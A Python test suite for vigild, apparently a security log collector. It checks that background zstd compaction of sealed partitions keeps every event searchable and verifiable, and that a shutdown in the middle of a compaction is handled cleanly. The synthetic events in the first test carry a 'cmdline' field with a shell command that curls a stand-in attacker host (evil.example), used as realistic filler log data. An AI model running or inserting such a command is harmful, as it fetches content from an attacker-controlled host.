"""Compaction inside vigild (schemas/segment.md 12): once a partition is sealed, a
thread of the collector's rewrites its segment as large zstd blocks while ingest and
queries go on; the records stay exactly those that were sealed (vigil verify checks the
records digest and the new signature), searches running meanwhile never fail nor miss
an event, and the metrics count what was rewritten."""
import os
import sqlite3
import threading
import time

import harness
from harness import VIGIL, VigildTest, run, wait_for
from forward_client import ForwardClient

HOUR = 3600
BASE = 1714521600  # 2024-05-01T00:00:00Z: partitions that ended long ago


def compacted(store):
    with sqlite3.connect(os.path.join(store, "catalog.db")) as c:
        return c.execute("SELECT count(*) FROM deletions WHERE reason = 'compacted'").fetchone()[0]


class Compaction(VigildTest):
    store = {"compaction": "zstd"}

    def ship(self, events, chunk):
        cert, key = self.vd.cert("agent-node-1")
        c = ForwardClient(self.vd.forward_port, self.vd.ca, cert, key,
                          timeout=harness.timeout(15))
        try:
            c.send_chunk("compact.test", events, chunk)
            self.assertEqual(c.wait_ack(), chunk)
        finally:
            c.close()

    def test_sealed_partitions_compacted_while_running(self):
        vd = self.vd
        # Three old partitions, each written as many small blocks (one chunk per commit).
        n = 0
        for k in range(30):
            ev = [(BASE + (i % 3) * HOUR + k * 60 + i,
                   {"message": "event %d of chunk %d" % (i, k), "run": "compact",
                    "pod": "web-%d" % (i % 7), "cmdline": "sh -c 'curl evil.example/%d'" % i})
                  for i in range(60)]
            self.ship(ev, "c-%d" % k)
            n += len(ev)
        before = vd.search("raw.run=compact")
        self.assertEqual(len(before), n)

        # Searches run all along: none may fail or miss an event while segments are
        # replaced under them.
        failures = []
        stop = threading.Event()

        def searching():
            while not stop.is_set():
                p = run([VIGIL, "search", "--store", vd.store, "--format", "ndjson",
                         "raw.run=compact"], check=False)
                got = p.stdout.count("\n")
                if p.returncode != 0 or got != n:
                    failures.append((p.returncode, got, p.stderr[-300:]))

        t = threading.Thread(target=searching)
        t.start()
        try:
            wait_for("three compactions", lambda: compacted(vd.store) == 3, seconds=60)
        finally:
            stop.set()
            t.join()
        self.assertEqual(failures, [])

        # The same events, in the same order; verify checks digests and signatures.
        after = vd.search("raw.run=compact")
        self.assertEqual([(e["seq"], e["ts"]) for e in after],
                         [(e["seq"], e["ts"]) for e in before])
        self.assertEqual(after, before)
        # The counter moves just after the catalog commit the test saw: wait for it.
        m = wait_for("the compactions counter at 3", lambda: (
            lambda m: m if m["vigil_compactions_total"] >= 3 else None)(vd.metrics()))
        self.assertEqual(m["vigil_compactions_total"], 3)
        self.assertEqual(m["vigil_compaction_failures_total"], 0)
        self.assertLess(m["vigil_compaction_bytes_after_total"],
                        m["vigil_compaction_bytes_before_total"])
        v = vd.verify()
        self.assertEqual(v.returncode, 0, v.stdout + v.stderr)
        # compaction's deletions are told apart from retention's
        self.assertIn("0 deleted by policy; 3 replaced by compaction", v.stdout)
        self.assertEqual(v.stdout.count("deleted by policy ("), 0)
        replaced = [l for l in v.stdout.splitlines() if ": replaced by " in l]
        self.assertEqual(len(replaced), 3, v.stdout)
        # each names the compacted segment that replaces it, which verified
        for l in replaced:
            new = l.split(": replaced by ", 1)[1].split(" ", 1)[0]
            self.assertIn("%s: ok (" % new, v.stdout)
            self.assertIn("(compacted at ", l)
        self.assertIn("3 segments checked, 3 ok, 0 failed", v.stdout)
        self.assertIn("3 signatures ok", v.stdout)
        left = [f for f in os.listdir(os.path.join(vd.store, "segments")) if f.startswith(".")]
        self.assertEqual(left, [])
        # Compacted segments are not compacted again; new events go on being stored.
        self.ship([(int(time.time()), {"message": "now", "run": "compact"})], "late")
        time.sleep(1)
        self.assertEqual(compacted(vd.store), 3)
        self.assertEqual(len(vd.search("raw.run=compact")), n + 1)

    def test_stop_in_the_middle_of_a_compaction(self):
        """SIGTERM while a segment is being rewritten: vigild stops cleanly, the half-built
        file goes, the store verifies with every event; the next start compacts it."""
        vd = self.vd
        segdir = os.path.join(vd.store, "segments")
        n = 0
        for k in range(60):  # one old partition, large enough to take a while to rewrite
            ev = [(BASE + 5 * HOUR + k * 50 + i // 20,
                   {"message": "bulk %d/%d %s" % (k, i, "x" * (i % 97)), "run": "bulk",
                    "pod": "batch-%d" % (i % 13)})
                  for i in range(1000)]
            self.ship(ev, "b-%d" % k)
            n += len(ev)
        wait_for("the rewrite to start",
                 lambda: [f for f in os.listdir(segdir) if f.endswith(".compact")],
                 seconds=60, every=0.002)
        vd.stop()
        self.assertEqual([f for f in os.listdir(segdir) if f.startswith(".")], [])
        self.assertIn(compacted(vd.store), (0, 1))  # cancelled, or just installed
        v = vd.verify()
        self.assertEqual(v.returncode, 0, v.stdout + v.stderr)
        self.assertEqual(len(vd.search("raw.run=bulk")), n)
        vd.start()
        wait_for("the compaction after the restart", lambda: compacted(vd.store) == 1,
                 seconds=60)
        self.assertEqual(len(vd.search("raw.run=bulk")), n)
        v = vd.verify()
        self.assertEqual(v.returncode, 0, v.stdout + v.stderr)


if __name__ == "__main__":
    harness.main()
